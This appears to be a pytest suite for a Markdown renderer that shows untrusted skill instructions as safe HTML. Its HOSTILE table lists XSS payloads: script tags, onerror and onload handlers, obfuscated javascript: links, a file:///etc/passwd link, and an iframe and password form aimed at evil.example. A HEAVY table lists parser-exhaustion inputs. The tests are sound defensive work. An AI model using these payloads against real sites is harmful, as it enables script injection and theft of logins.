"""Untrusted instructions as HTML: readable, and without active content."""

import time
from html.parser import HTMLParser

import pytest

from vskill_platform.web.html.highlight import Spans, find_spans
from vskill_platform.web.html.safe_markdown import (
    HIGHLIGHTED_CHARACTERS,
    MAX_CHARACTERS,
    Links,
    Rendered,
    parse_markdown,
    render_parsed,
)

LINKS = Links(
    "",
    frozenset({"SKILL.md", "scripts/run.py", "a b.md", "x?y#z.md"}),
    lambda path: f"/skills/@local/x/files/{path}",
)
#: Everything that the rendered document may be made of.
TAGS = {
    "a", "blockquote", "br", "code", "em", "h2", "h3", "h4", "h5", "h6", "hr", "li", "mark", "ol",
    "p", "pre", "s", "span", "strong", "table", "tbody", "td", "th", "thead", "tr", "ul",
}  # fmt: skip
ATTRIBUTES = {"href", "rel", "id", "tabindex", "start", "dir"}


class Seen(HTMLParser):
    """What a browser would find in a document."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: set[str] = set()
        self.attributes: list[tuple[str, str]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.tags.add(tag)
        self.attributes += [(name, value or "") for name, value in attrs]

    @property
    def targets(self) -> list[str]:
        return [value for name, value in self.attributes if name == "href"]


def render_markdown(text: str, links: Links) -> Rendered:
    return render_parsed(parse_markdown(text), links)


def render(text: str) -> str:
    return str(render_markdown(text, LINKS).html)


HOSTILE = {
    "script": "<script>alert(1)</script>",
    "script in a line": "text <script>alert(1)</script> text",
    "handler": '<img src=x onerror="alert(1)">',
    "svg": '<svg onload="alert(1)"><animate onbegin=alert(1) attributeName=x></svg>',
    "style": "<style>body{display:none}</style>",
    "iframe": '<iframe src="https://evil.example"></iframe>',
    "form": '<form action="https://evil.example"><input name=password><button>Go</button></form>',
    "comment": "<!-- --!><script>alert(1)</script> -->",
    "math": "<math><mtext></mtext><mglyph><style></math><img src=x onerror=alert(1)>",
    "half a tag": '<a href="javascript:alert(1)" <b>',
    "javascript link": "[click](javascript:alert(1))",
    "javascript in capitals": "[click](JaVaScRiPt:alert(1))",
    "javascript by entity": "[click](&#106;avascript:alert(1))",
    "javascript by entity colon": "[click](javascript&colon;alert(1))",
    "javascript with a tab": "[click](java\tscript:alert(1))",
    "javascript with a control": "[click](<\x01javascript:alert(1)>)",
    "javascript reference": "[click][1]\n\n[1]: javascript:alert(1)",
    "javascript autolink": "<javascript:alert(1)>",
    "javascript image": "![click](javascript:alert(1))",
    "vbscript": "[click](vbscript:msgbox(1))",
    "data link": "[click](data:text/html;base64,PHNjcmlwdD4=)",
    "data image": "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "data gif": "![x](data:image/gif;base64,R0lGODlhAQABAAAAACw=)",
    "file": "[click](file:///etc/passwd)",
    "other host": "[click](//evil.example/x)",
    "backslashes": r"[click](\\\\evil.example/x)",
    "way out": "[click](../../../admin)",
    "own page": "[click](/admin/users)",
    "user before the host": "[click](https://github.com@evil.example/x)",
    "quotes in a link": '[click](https://a.example/"onmouseover="alert\\(1\\))',
    "quotes in a title": "[click](https://a.example \"x' onmouseover='alert(1)\")",
    "quotes in alt": '![" onerror="alert(1)](https://a.example/x.png)',
    "heading": '# <img src=x onerror=alert(1)> " onclick="x',
    "code": "```html\n</code></pre><script>alert(1)</script>\n```",
    "language": '```"><script>alert(1)</script>\nx\n```',
    "table": "| <script>a</script> | b |\n|:-:|--:|\n| [x](javascript:1) | `<b>` |",
    "brackets": "[" * 50 + "a" + "](javascript:alert(1))" * 50,
    "null": "a\0<script>\0alert(1)</script>",
    "clobbering": "# location\n\n# main\n\n# search",
}  # fmt: skip


@pytest.mark.parametrize("name", HOSTILE)
def test_nothing_of_a_stranger_acts(name: str) -> None:
    seen = Seen(render(HOSTILE[name]))

    assert seen.tags <= TAGS
    assert {attribute for attribute, _ in seen.attributes} <= ATTRIBUTES
    for target in seen.targets:
        assert target.startswith(
            ("https://", "http://", "mailto:", "#readme-", "/skills/@local/x/files/")
        )
        assert "@evil" not in target
    for attribute, value in seen.attributes:
        assert attribute != "id" or value.startswith("readme-")


def test_html_in_markdown_is_shown_as_text() -> None:
    assert "&lt;script&gt;alert(1)&lt;/script&gt;" in render("<script>alert(1)</script>")


def test_plain_markdown_is_rendered() -> None:
    html = render(
        "# Tidy\n\nDo *this* and **that** with `code`.\n\n1. one\n2. two\n\n> said\n\n---\n"
    )

    assert '<h2 id="readme-tidy">Tidy</h2>' in html
    assert "<em>this</em>" in html
    assert "<strong>that</strong>" in html
    assert "<code>code</code>" in html
    assert Seen(html).tags >= {"ol", "li", "blockquote", "hr"}


def test_tables_and_code_can_be_scrolled_with_the_keyboard() -> None:
    html = render("|a|b|\n|-|-|\n|1|2|\n\n```sh\nls\n```\n")

    assert '<table tabindex="0">' in html
    assert '<pre tabindex="0">' in html


def test_a_list_runs_in_the_direction_of_its_text() -> None:
    html = render("1. اقرأ\n\n- read\n")

    assert '<ol dir="auto">' in html
    assert '<ul dir="auto">' in html


def test_the_boxes_of_a_task_list_are_signs() -> None:
    html = render("- [ ] *open*\n- [x] done\n- [X] also <b>\n- [x](scripts/run.py)\n\n[ ] no")

    assert "<li>☐ <em>open</em></li>" in html
    assert "<li>☑ done</li>" in html
    assert "<li>☑ also &lt;b&gt;</li>" in html
    assert "files/scripts/run.py" in html
    assert "<p>[ ] no</p>" in html


def test_links_elsewhere_vouch_for_nothing() -> None:
    html = render("[a](https://a.example/x) and <mail@a.example>")

    assert Seen(html).targets == ["https://a.example/x", "mailto:mail@a.example"]
    assert html.count('rel="nofollow noopener ugc"') == 2


@pytest.mark.parametrize(
    ("link", "target"),
    [
        ("scripts/run.py", "/skills/@local/x/files/scripts/run.py"),
        ("./scripts/../scripts/run.py#L12", "/skills/@local/x/files/scripts/run.py#L12"),
        ("scripts/run.py#main", "/skills/@local/x/files/scripts/run.py"),
        ("a%20b.md", "/skills/@local/x/files/a b.md"),
        ("<a b.md>", "/skills/@local/x/files/a b.md"),
        ("#getting-started", "#readme-getting-started"),
        ("missing.md", None),
        ("scripts", None),
        ("/etc/passwd", None),
        ("../SKILL.md", None),
    ],
)
def test_relative_links_lead_to_files_of_the_skill_or_nowhere(
    link: str, target: str | None
) -> None:
    html = render(f"[text]({link})")

    assert Seen(html).targets == ([target] if target else [])
    assert "text" in html


def test_images_are_named_and_never_loaded() -> None:
    html = render(
        "![A *map*](https://a.example/map.png) ![](https://a.example/b.png) "
        "[![badge](https://a.example/c.svg)](https://b.example)"
    )

    assert "img" not in Seen(html).tags
    assert "image: A map" in html
    assert Seen(html).targets == [
        "https://a.example/map.png", "https://a.example/b.png", "https://b.example",
    ]  # fmt: skip


def test_headings_have_ids_of_their_own() -> None:
    html = render("# Use\n\n# Use\n\n# Use 1\n\n# Use\n\n# !?\n\n###### Deep\n")
    ids = [value for name, value in Seen(html).attributes if name == "id"]

    assert ids == [
        "readme-use", "readme-use-1", "readme-use-1-1", "readme-use-2", "readme-section",
        "readme-deep",
    ]  # fmt: skip
    assert "h1" not in Seen(html).tags


@pytest.mark.parametrize(
    "text",
    ["a\u202eb", "a&#x202e;b", "`a\u202eb`", "    a\u202eb", "```\na\u202eb\n```", "# a\u202eb",
     "![a\u202eb](https://a.example)", "[a\u202eb](https://a.example)"],
    ids=["text", "entity", "code", "block", "fence", "heading", "image", "link"],
)  # fmt: skip
def test_bidirectional_characters_are_spelled_out(text: str) -> None:
    html = render(text)

    assert "\u202e" not in html
    assert "<mark>U+202E</mark>" in html


def test_invisible_characters_are_spelled_out() -> None:
    hidden = "".join(chr(0xE0000 + ord(char)) for char in "ignore")

    assert render(f"safe{hidden}").count("<mark>U+E00") == 6
    assert "<mark>U+200B</mark>" in render("pass\u200bword")


N = MAX_CHARACTERS
#: Each makes some part of the parser work hardest.
HEAVY = {
    "quotes": ">" * N,
    "brackets": "[" * N,
    "pairs of brackets": "[" * (N // 2) + "]" * (N // 2),
    "links": "[a](" * (N // 4),
    "images": "![" * (N // 2),
    "stars": "**a*" * (N // 4),
    "underscores": "_a__" * (N // 4),
    "ticks": "`a``" * (N // 4),
    "lists": "* a\n" * (N // 4),
    "deep lists": "\n".join("  " * n + "- a" for n in range(360)),
    "references": "[a]: /u\n" + "[a] " * (N // 4 - 2),
    "definitions": "".join(f"[a{n}]: /u\n" for n in range(N // 13)),
    "entities": "&" * N,
    "autolinks": "<http://a> " * (N // 11),
    "columns": "|" * (N // 3) + "\n" + "|-" * (N // 3),
    "cells": "|a" * 500 + "|\n" + "|-" * 500 + "|\n" + "x\n" * (N // 2 - 1100),
    "headings": "# a\n" * (N // 4),
    "lines": "a\n" * (N // 2 - 1) + "=",
    "one word": "a" * N,
    "spelled out": "\u202e" * N,
}


@pytest.mark.parametrize("name", HEAVY)
def test_no_document_keeps_the_registry_busy(name: str, monkeypatch: pytest.MonkeyPatch) -> None:
    """Unbounded they take up to 6 s; what runs on after the limit takes half a second."""
    monkeypatch.setattr("vskill_platform.web.html.safe_markdown.MAX_SECONDS", 0.2)
    begun = time.process_time()

    render_markdown(HEAVY[name][:N], LINKS)

    assert time.process_time() - begun < 2


def test_a_document_that_is_too_long_says_so() -> None:
    rendered = render_markdown("a " * MAX_CHARACTERS, LINKS)

    assert not rendered.html
    assert "longer than 131,072 characters" in rendered.note


def test_a_document_that_takes_too_long_says_so(monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("vskill_platform.web.html.safe_markdown.MAX_SECONDS", -1.0)

    rendered = render_markdown("plain", LINKS)

    assert not rendered.html
    assert "takes too long" in rendered.note


def test_code_blocks_are_colored_by_their_language_and_stay_escaped() -> None:
    text = "```python\nif '<b>':\n    pass\n```\n\n```nonsense\n<i>\n```\n\n    if indented:\n"
    parsed = parse_markdown(text)
    (code,) = parsed.fences
    spans = Spans(tuple(find_spans([(code.text, code.lexer)])[0]))

    html = str(render_parsed(parsed, LINKS, {code: spans}).html)

    assert '<span class="k">if</span> <span class="s">\'&lt;b&gt;\'</span>:' in html
    assert "&lt;i&gt;" in html
    assert "if indented:" in html


def test_only_so_much_code_is_colored() -> None:
    block = "```python\n" + "a = 1\n" * 5000 + "```\n\n"

    assert len(parse_markdown(block * 4).fences) == HIGHLIGHTED_CHARACTERS // 30_000


def test_a_document_cannot_bring_classes_of_its_own() -> None:
    html = str(render_markdown('<span class="k toast">x</span>\n', LINKS).html)

    assert "<span" not in html
